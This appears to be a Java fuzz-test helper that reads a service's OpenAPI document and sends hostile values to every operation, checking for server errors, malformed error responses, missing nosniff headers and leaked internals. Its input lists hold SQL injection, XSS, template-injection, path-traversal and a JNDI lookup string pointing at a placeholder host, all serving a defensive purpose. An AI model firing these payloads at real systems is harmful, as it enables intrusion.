package org.bilateral.testsupport;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.runtime.configuration.MemorySize;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Pattern;
import org.eclipse.microprofile.config.ConfigProvider;

/**
 * A schema-driven fuzz test: reads the service's own OpenAPI document and, for every operation,
 * sends hostile values for every path, query and header parameter and every body field (wrong
 * types, huge strings, unicode edge cases, negative and huge numbers, nulls, missing required
 * and extra fields, arrays for objects, SQL and script text), writes with and without an editor
 * token. It then demands: no 5xx, every 4xx is problem+json (or the error type the operation
 * documents, such as an SDMX-ML error message on SDMX paths), no body leaks a stack trace, SQL or
 * a class name, every answer the application wrote carries {@code X-Content-Type-Options: nosniff}.
 * Deterministic: values are sampled with a seeded Random. Prints the request count and the
 * outcome counts per status.
 *
 * <p>Writes that happen to be valid are really executed, so run it in a test profile with a
 * database schema of its own ({@link IsolatedSchemaProfile}).
 */
public final class OpenApiFuzzContract {

    /** Text that must never reach a client: stack frames, class and package names, SQL and driver messages. */
    static final List<Pattern> LEAKS = List.of(
            Pattern.compile("org\\.bilateral"), Pattern.compile("\\bjava\\.[a-z]"), Pattern.compile("\\bjakarta\\.[a-z]"),
            Pattern.compile("org\\.hibernate"), Pattern.compile("org\\.postgresql"), Pattern.compile("PSQLException"),
            Pattern.compile("SQLException"), Pattern.compile("[A-Za-z]Exception\\b"), Pattern.compile("\\bat [a-z]+\\.[a-z]+\\.[A-Za-z.$]+\\("),
            Pattern.compile("Caused by"), Pattern.compile("com\\.fasterxml"), Pattern.compile("io\\.(quarkus|vertx|smallrye|netty)"),
            Pattern.compile("\\bselect [a-z0-9_.]+ ?"), Pattern.compile("\\binsert into\\b"), Pattern.compile("SQL ?state", Pattern.CASE_INSENSITIVE),
            Pattern.compile("ERROR: "), Pattern.compile("Position: \\d"));

    /** Strings no value of any parameter or field may break the service with. None contains a LEAKS pattern. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "", " ", "null", "-1", "0", "-0", "1.5", "2147483648", "-2147483649", "9223372036854775808",
            "99999999999999999999999999999", "1e309", "-1e309", "NaN", "Infinity", "0x10", "true",
            "2019-02-30", "0000-00-00", "+999999999-12-31", "-999999999-01-01T00:00:00Z", "2022-13-45T25:61:61Z",
            "BY", "by", "XX", "B\u0000Y", "\u0000", "\uD800", "\uDFFF\uD800", "\u202Eevil\u202C", "\u0645\u0631\u062D\u0628\u0627",
            "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "e\u0301\u0301\u0301\u0301\u0301", "\uFEFF\u200B\u00A0",
            "' OR '1'='1", "1; DROP TABLE figure; --", "\" OR 1=1 --", "%' --", "_%\\", "1 UNION ALL SELECT NULL--",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}${7*7}", "${jndi:ldap://x.example/a}",
            "../../../../etc/passwd", "id;drop", "-id,,-,", "a".repeat(5000));

    /** JSON values (as JSON text) for body fields, on top of the strings above. */
    static final List<String> HOSTILE_JSON = List.of(
            "null", "true", "0", "-1", "1.5", "-2147483649", "9223372036854775808", "123456789012345678901234567890",
            "1e400", "-1e400", "1E-400", "[]", "[null]", "{}", "{\"unexpected\":1}", "[[[[[[[[[[1]]]]]]]]]]",
            "\"" + "x".repeat(100_000) + "\"");

    /** Raw bodies no JSON write may break the service with. */
    static final List<String> HOSTILE_BODIES = List.of(
            "", "null", "42", "\"text\"", "[]", "[{}]", "{", "{\"a\":", "{'single':'quotes'}", "{\"a\":NaN}",
            "{\"a\":1,\"a\":2}", "[".repeat(100_000), "{\"a\":".repeat(5_000), "\u0000", "\uFEFF{}",
            "<?xml version=\"1.0\"?><a>1</a>", "{\"x\":\"\\ud800\"}");

    private final String document;
    private final Random random;
    private final int valuesPerSlot;
    private final Map<String, Integer> outcomes = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private int requests;
    private ApiDocument api;
    /** The operation being fuzzed: its documented error media types are accepted beside problem+json. */
    private ApiDocument.Operation current;

    private OpenApiFuzzContract(String document, long seed, int valuesPerSlot) {
        this.document = document;
        this.random = new Random(seed);
        this.valuesPerSlot = valuesPerSlot;
    }

    /**
     * Fuzzes every operation of the OpenAPI document at {@code documentPath} of the application
     * under test and fails with every violation found.
     *
     * @param valuesPerSlot how many hostile values each parameter and body field gets (sampled, seeded)
     */
    public static void assertSurvivesHostileInput(String documentPath, long seed, int valuesPerSlot) {
        OpenApiFuzzContract fuzz = new OpenApiFuzzContract(documentPath, seed, valuesPerSlot);
        fuzz.api = ApiDocument.fetch(documentPath);
        fuzz.api.operations().forEach(fuzz::fuzzOperation);
        System.out.printf("[fuzz] %s: %d requests, outcomes by status %s%n", documentPath, fuzz.requests, fuzz.outcomes);
        assertTrue(fuzz.requests > 0, "no request sent");
        assertEquals(List.of(), fuzz.failures.stream().limit(40).toList(),
                fuzz.failures.size() + " of " + fuzz.requests + " answers broke the contract");
    }

    private void fuzzOperation(ApiDocument.Operation op) {
        current = op;
        List<String> tokens = op.write() ? List.of(DevTokens.editor(), "") : List.of("");
        for (String token : tokens) {
            int perSlot = token.isEmpty() && op.write() ? Math.max(1, valuesPerSlot / 4) : valuesPerSlot;
            ApiDocument.Call base = api.baseline(op, token);
            exchange(base, "baseline");
            for (JsonNode param : op.params()) {
                String name = param.path("name").asText();
                String in = param.path("in").asText();
                for (String value : sample(HOSTILE_STRINGS, perSlot)) {
                    ApiDocument.Call call = base.copy();
                    if (call.put(in, name, value)) {
                        exchange(call, in + " " + name + "=" + shorten(value));
                    }
                }
            }
            if (!op.bodySchema().isMissingNode()) {
                fuzzBody(op, token, perSlot, base);
            }
            for (String accept : List.of("text/html", "application/xml", "*/*;q=oops", "application/problem+json")) {
                ApiDocument.Call call = base.copy();
                call.headers.put("Accept", accept);
                exchange(call, "Accept " + accept);
            }
            if (token.equals(tokens.get(0))) {
                oversizedHead(base);
            }
        }
    }

    /** A request line and a header block just past the application's limits: a 414 and a 431, problem+json like any 4xx. */
    private void oversizedHead(ApiDocument.Call base) {
        var config = ConfigProvider.getConfig();
        int line = config.getOptionalValue("bilateral.http.max-request-line-length", Integer.class).orElse(8192);
        long headers = config.getOptionalValue("bilateral.http.max-header-size", MemorySize.class).map(MemorySize::asLongValue).orElse(16384L);
        ApiDocument.Call longLine = base.copy();
        longLine.query.put("padding", "a".repeat(line));
        expect(longLine, "request line over " + line + " bytes", 414);
        ApiDocument.Call bigHead = base.copy();
        bigHead.headers.put("X-Padding", "p".repeat((int) headers + 10));
        expect(bigHead, "headers over " + headers + " bytes", 431);
    }

    private void expect(ApiDocument.Call call, String what, int status) {
        int answered = exchange(call, what);
        if (answered != status) {
            failures.add(call.method + " " + call.template + " [" + what + "] -> " + answered + ", expected " + status);
        }
    }

    private void fuzzBody(ApiDocument.Operation op, String token, int perSlot, ApiDocument.Call base) {
        Object body = base.body;
        List<List<Object>> fieldPaths = new ArrayList<>();
        collectFields(api.resolve(op.bodySchema()), new ArrayList<>(), fieldPaths, 0);
        for (List<Object> field : fieldPaths) {
            List<String> values = new ArrayList<>();
            sample(HOSTILE_STRINGS, perSlot).forEach(s -> values.add(JsonText.quote(s)));
            values.addAll(sample(HOSTILE_JSON, perSlot));
            for (String value : values) {
                ApiDocument.Call call = base.copy();
                call.body = JsonText.replace(body, field, new JsonText.Raw(value));
                exchange(call, "body " + field + "=" + shorten(value));
            }
            ApiDocument.Call missing = base.copy();
            missing.body = JsonText.replace(body, field, JsonText.REMOVE);
            exchange(missing, "body without " + field);
        }
        ApiDocument.Call extra = base.copy();
        extra.body = JsonText.replace(body, List.of("unexpectedField"), new JsonText.Raw("\"<b>x</b>\""));
        exchange(extra, "body with an extra field");
        for (String raw : sample(HOSTILE_BODIES, token.isEmpty() ? perSlot : HOSTILE_BODIES.size())) {
            ApiDocument.Call call = base.copy();
            call.body = new JsonText.Raw(raw);
            exchange(call, "body " + shorten(raw));
        }
        for (String type : List.of("text/plain", "application/xml", "application/json; charset=x-unknown", "multipart/form-data")) {
            ApiDocument.Call call = base.copy();
            call.contentType = type;
            exchange(call, "Content-Type " + type);
        }
    }

    /** Sends the call and checks the answer against the contract; returns its status (-1: not sendable). */
    private int exchange(ApiDocument.Call call, String what) {
        HttpRequest request;
        try {
            request = call.build();
        } catch (IllegalArgumentException unsendable) {
            // a header value the HTTP client refuses to put on the wire (CR, LF, NUL): no server sees it either
            outcomes.merge("unsendable", 1, Integer::sum);
            return -1;
        }
        HttpResponse<String> response = api.send(request);
        requests++;
        int status = response.statusCode();
        outcomes.merge(Integer.toString(status), 1, Integer::sum);
        String where = call.method + " " + call.template + " [" + what + (call.headers.containsKey("Authorization") ? ", editor" : "") + "]";
        String body = response.body() == null ? "" : response.body();
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (status >= 500) {
            failures.add(where + " -> " + status + " " + shorten(body));
        } else if (status >= 400 && !type.startsWith("application/problem+json")
                && (current == null || current.errorMediaTypes().stream().noneMatch(documented -> type.startsWith(documented)))) {
            failures.add(where + " -> " + status + " with Content-Type '" + type + "': " + shorten(body));
        }
        if (!response.headers().firstValue("X-Content-Type-Options").orElse("").equals("nosniff")) {
            failures.add(where + " -> " + status + " without X-Content-Type-Options: nosniff");
        }
        if (status >= 300) {
            String leak = leak(body);
            if (leak != null) {
                failures.add(where + " -> " + status + " leaks '" + leak + "': " + shorten(body));
            }
        }
        return status;
    }

    /** The first text in an answer that gives away internals, or null. */
    public static String leak(String body) {
        for (Pattern leak : LEAKS) {
            var m = leak.matcher(body);
            if (m.find()) {
                return m.group();
            }
        }
        return null;
    }

    private List<String> sample(List<String> pool, int count) {
        if (count >= pool.size()) {
            return pool;
        }
        List<String> copy = new ArrayList<>(pool);
        Collections.shuffle(copy, random);
        return copy.subList(0, count);
    }

    /** Every field of the body (nested objects and the first array item included), as JSON paths. */
    private void collectFields(JsonNode schema, List<Object> prefix, List<List<Object>> out, int depth) {
        if (depth > 4) {
            return;
        }
        schema = api.resolve(schema);
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> property = it.next();
            List<Object> path = new ArrayList<>(prefix);
            path.add(property.getKey());
            out.add(path);
            JsonNode child = api.resolve(property.getValue());
            if (child.has("properties")) {
                collectFields(child, path, out, depth + 1);
            } else if (child.has("items") && api.resolve(child.get("items")).has("properties")) {
                List<Object> item = new ArrayList<>(path);
                item.add(0);
                collectFields(child.get("items"), item, out, depth + 1);
            }
        }
    }

    private static String shorten(String s) {
        String oneLine = s.replace("\n", "\\n").replace("\u0000", "\\u0000");
        return oneLine.length() > 160 ? oneLine.substring(0, 160) + "…(" + s.length() + " chars)" : oneLine;
    }
}
